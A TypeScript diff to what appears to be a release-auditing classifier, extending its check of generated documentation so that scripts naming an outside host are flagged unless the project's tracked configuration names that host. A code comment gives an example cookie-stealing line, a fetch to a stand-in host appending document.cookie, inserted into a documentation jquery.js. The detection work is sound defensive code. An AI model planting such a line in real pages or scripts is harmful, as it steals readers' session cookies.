@@ -10,7 +10,7 @@ import type { PathDiff } from '../core/types.js';
 import type { Classifier, ClassifyContext } from './types.js';
 import { baseOf, dirOf, pathsBy } from './paths.js';
 import { pdfStructureProblem } from './pdf-structure.js';
-import { htmlReachesOut, urlHosts } from './urls.js';
+import { htmlReachesOut, scriptHosts, urlHosts } from './urls.js';
 
 type DocKind = 'man' | 'pdf' | 'html' | 'info' | 'text' | 'other';
 
@@ -170,10 +170,10 @@ const TEMPLATE_EXT = /\.(?:html?|py|js|cfg|ini|in|ya?ml|toml|conf|txt|xml|css|js
 const sourceHosts = new WeakMap<ClassifyContext, Map<string, Promise<Set<string>>>>();
 
 /**
- * Whether `host` is named by a tracked file of the documentation's source directory (the directory of its Doxyfile,
+ * Whether every host of `wanted` is named by a tracked file of the documentation's source directory (the directory of its Doxyfile,
  * conf.py or mkdocs.yml and below: configuration, templates, theme files; at most 500 files of 1 MiB).
  */
-async function hostInSources(ctx: ClassifyContext, source: string | undefined, host: string): Promise<boolean> {
+async function hostsInSources(ctx: ClassifyContext, source: string | undefined, wanted: string[]): Promise<boolean> {
   if (source === undefined) return false;
   const dir = dirOf(source);
   let byDir = sourceHosts.get(ctx);
@@ -192,7 +192,8 @@ async function hostInSources(ctx: ClassifyContext, source: string | undefined, h
     })();
     byDir.set(dir, hosts);
   }
-  return (await hosts).has(host);
+  const named = await hosts;
+  return wanted.every((h) => named.has(h));
 }
 
 function decide(diff: PathDiff, ctx: ClassifyContext): Finding | undefined | Promise<Finding | undefined> {
@@ -254,12 +255,14 @@ function decide(diff: PathDiff, ctx: ClassifyContext): Finding | undefined | Pro
     const b = ctx.content.tarball(path);
     if (root && (!b || isWhatItsNameSays(base, b))) {
       const source = htmlSource(git, path);
-      // a page of the tree that loads a script or frame from another host, or whose inline script names one, runs what
-      // that host serves when a reader opens the documentation (red team 16): only a host the generator's tracked
-      // configuration or templates name (a Sphinx theme's analytics snippet) — none of the 1,881 pages the
-      // evaluation set's releases generate loads any
-      const host = b && /\.x?html?$/i.test(base) ? htmlReachesOut(b.toString('latin1')) : undefined;
-      if (host !== undefined) return hostInSources(ctx, source, host).then((named) => (named ? docsFinding(path, 'html', source) : undefined));
+      // A page of the tree that loads a script or frame from another host, or whose inline script names one, and a
+      // script of the tree whose code names a host (fetch('https://h/?'+document.cookie) appended to Doxygen's
+      // jquery.js) run what that host serves, or send it what they read, when a reader opens the documentation (red
+      // team 16): only hosts the generator's tracked configuration or templates name (a Sphinx theme's analytics
+      // snippet) are explained. None of the 1,881 pages the evaluation set's releases generate loads any; none of
+      // their 19 generated scripts names a host but www.w3.org (XML namespaces).
+      const hosts = !b ? [] : /\.x?html?$/i.test(base) ? htmlReachesOut(b.toString('latin1')) : /\.m?js$/i.test(base) ? scriptHosts(b.toString('latin1')) : [];
+      if (hosts.length) return hostsInSources(ctx, source, hosts).then((named) => (named ? docsFinding(path, 'html', source) : undefined));
       return docsFinding(path, 'html', source);
     }
   }
